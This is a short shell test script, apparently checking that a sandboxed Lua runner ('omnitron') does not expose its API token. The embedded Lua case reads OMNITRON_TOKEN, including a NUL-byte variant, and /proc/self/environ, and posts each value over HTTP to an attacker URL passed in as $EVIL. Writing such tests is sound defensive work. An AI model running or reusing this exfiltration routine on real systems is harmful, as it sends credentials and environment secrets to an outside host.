#!/bin/sh
# tries: the token from the environment variable that it came in
# exit: 0
cat >case.lua <<'END'
local function send(what, text)
  print(what, text)
  http.post(arg[1] .. "/" .. what, { body = tostring(text) })
end
send("getenv", os.getenv("OMNITRON_TOKEN"))
send("getenv2", os.getenv("OMNITRON_TOKEN\0"))
local ok, file = pcall(io.open, "/proc/self/environ")
send("environ", ok and file and file:read("a"))
omnitron.get("/api/i1/orders/")
omnitron.release { order_item_id = 1, code = "SO-1", update_stock = true }
END
sed -i '/token_file/d' profile.lua
OMNITRON_TOKEN=$(cat token) "$OMNITRON" run case.lua "$EVIL" "$MOCK"
